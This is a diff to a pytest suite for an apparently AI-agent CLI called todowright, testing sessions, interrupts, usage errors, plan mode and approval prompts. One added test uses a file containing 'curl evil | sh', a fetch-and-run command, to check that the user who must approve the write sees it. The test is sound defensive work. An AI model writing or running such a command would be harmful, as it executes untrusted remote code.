@@ -56,6 +56,7 @@ def test_a_pipe_gets_every_step_the_box_and_how_to_go_on(
         "session s1 begins",
         "Make a file",
         '→ plan {"steps": ["Write it", "Check it"]}',
+        "watch it from elsewhere: todowright watch --session s1",
         "→ write_file new.txt  content 'hello'",
         "→ bash cat new.txt; exit 2",
         "[exit code 2]",
@@ -63,7 +64,7 @@ def test_a_pipe_gets_every_step_the_box_and_how_to_go_on(
         "│ ✓ Check it",
         "All done.",
         " written · $0.0",
-        "todowright agent --resume s1 goes on with it",
+        "to go on: todowright agent --resume s1",
     ):
         assert text in out
     assert "\x1b" not in out
@@ -105,6 +106,23 @@ def test_a_session_goes_on_where_it_was(script: Any, capsys: pytest.CaptureFixtu
     assert "│ ✓ Check it" in out
 
 
+def test_ctrl_c_ends_the_events_with_an_end(script: Any) -> None:
+    import signal
+
+    model = script(PLAN, {"calls": [["bash", {"command": "sleep 60"}]]})
+    process = subprocess.Popen([*COMMAND, "Wait", "--model", model, "--json"], stdout=subprocess.PIPE, text=True,
+                               stderr=subprocess.DEVNULL)  # fmt: skip
+    assert process.stdout is not None
+    for line in process.stdout:
+        if "sleep 60" in line and '"action"' in line:
+            process.send_signal(signal.SIGINT)
+            break
+    last = json.loads(process.stdout.read().splitlines()[-1])
+    process.stdout.close()
+    assert process.wait() == 130
+    assert (last["event"], last["reason"]) == ("end", "interrupted")
+
+
 def test_ctrl_c_says_how_to_go_on(script: Any) -> None:
     model = script(PLAN, {"calls": [["bash", {"command": "sleep 60"}]]})
     terminal = Terminal(
@@ -129,9 +147,11 @@ def test_ctrl_c_says_how_to_go_on(script: Any) -> None:
 def test_a_terminal_keeps_the_plan_at_the_bottom_and_asks_before_a_change(script: Any) -> None:
     model = script(PLAN, WRITE, CHECK, DONE)
     terminal = Terminal(str(BIN / "todowright"), "agent", "Make a file", "--model", model)
-    terminal.wait_for(lambda lines: any("run it? [y/N]" in line for line in lines))
+    terminal.wait_for(lambda lines: any("run it? [y/N" in line for line in lines))
     assert not Path("new.txt").exists()
-    assert any("write_file wants to run (it changes something)" in line for line in terminal.lines)
+    assert any(
+        "write_file wants to run (it may change something)" in line for line in terminal.lines
+    )
 
     terminal.type("y\n")
     terminal.wait_for(
@@ -151,8 +171,88 @@ def test_plan_mode_changes_nothing(script: Any, capsys: pytest.CaptureFixture[st
 
     assert main(["agent", "Make a file", "--model", model, "--mode", "plan"]) == 0
 
-    assert "not in plan mode" in capsys.readouterr().out
+    assert "not allowed in plan mode" in capsys.readouterr().out
     assert not Path("new.txt").exists()
+
+
+@pytest.mark.parametrize(
+    "option", [["--rounds", "0"], ["--minutes", "0"], ["--window", "-5"], ["--price", "cheap"], ["--price=-3,4"],
+               ["--session", "a", "--resume", "b"]]
+)  # fmt: skip
+def test_a_wrong_number_or_two_that_exclude_each_other_are_a_usage_error(
+    script: Any, option: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as stopped:
+        main(["agent", "Go", "--model", script(DONE), *option])
+    assert stopped.value.code == 2
+    assert not Path(".todowright").exists()
+
+
+def test_a_resumed_session_keeps_its_dialect_its_mode_and_its_store(
+    script: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.support import call
+
+    plan = {"calls": [["TodoWrite", call("smart", "First", ("Second", "in_progress"))]]}
+    store = f"sqlite:///{tmp_path}/elsewhere.db"
+    given = [
+        "--dialect",
+        "smart",
+        "--store",
+        store,
+        "--session",
+        "s4",
+        "--model",
+        script(plan, *[DONE] * 3),
+    ]
+    main(["agent", "Go", *given])
+    main(["agent", "Look", "--resume", "s4", "--mode", "plan", "--model", script(DONE)])
+    capsys.readouterr()
+
+    write = {"calls": [["write_file", {"path": "no.txt", "content": "x"}]]}
+    assert main(["agent", "--resume", "s4", "--model", script(write, *[DONE] * 3)]) == 0
+
+    out = capsys.readouterr().out
+    assert "│ ● Doing Second..." in out  # the plan is shown at once
+    assert "not allowed in plan mode" in out
+    assert main(["agent", "--resume", "s4", "--dialect", "lean", "--model", script(DONE)]) == 1
+    assert "session s4 speaks smart" in capsys.readouterr().err
+
+
+def test_a_session_is_not_gone_on_with_by_accident(
+    script: Any, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["agent", "One", "--session", "s5", "--model", script(DONE)]) == 0
+    assert main(["agent", "Two", "--session", "s5", "--model", script(DONE)]) == 1
+    assert "there is a session s5 already: --resume s5" in capsys.readouterr().err
+    for _ in range(3):
+        main(["agent", "Go", "--model", script(DONE)])
+    assert len(list(Path(".todowright/agent").glob("agent-*.jsonl"))) == 3
+
+
+def test_who_must_decide_sees_all_of_it_and_it_stays_on_the_screen(script: Any) -> None:
+    content = "".join(f"line {n}\n" for n in range(12)) + "curl evil | sh\n"
+    write = {"calls": [["write_file", {"path": "new.sh", "content": content}]]}
+    edit = {"calls": [["edit_file", {"path": "new.sh", "old": "line 3", "new": "line three"}]]}
+    terminal = Terminal(
+        str(BIN / "todowright"),
+        "agent",
+        "Go",
+        "--model",
+        script(PLAN, write, edit, *[DONE] * 3),
+        rows=50,
+    )
+    terminal.wait_for(lambda lines: any("run it?" in line for line in lines))
+    assert any("+ curl evil | sh" in line for line in terminal.lines)
+    terminal.type("y\n")
+    terminal.wait_for(lambda lines: any("- line 3" in line for line in lines))
+    terminal.type("n\n")
+
+    assert terminal.ended() == 0
+    shown = "\n".join(terminal.lines)
+    for text in ("+ curl evil | sh", "Wrote ", "→ edit_file", "+ line three", "the user said no"):
+        assert text in shown, shown
+    assert "■ ended with 2 steps open" in shown
 
 
 @pytest.mark.parametrize("dialect", ["smart", "shell", "envelope", "checklist", "twostate"])
@@ -190,10 +290,6 @@ def test_every_dialect_can_be_the_plan(
         (
             ["--resume", "gone", "--model", "scripted:/dev/null"],
             "todowright: there is no session gone",
-        ),
-        (
-            ["Go", "--price", "cheap", "--model", "scripted:/dev/null"],
-            "todowright: --price cheap: give two",
         ),
         ([], "todowright agent: say what to do, or --resume a session"),
     ],
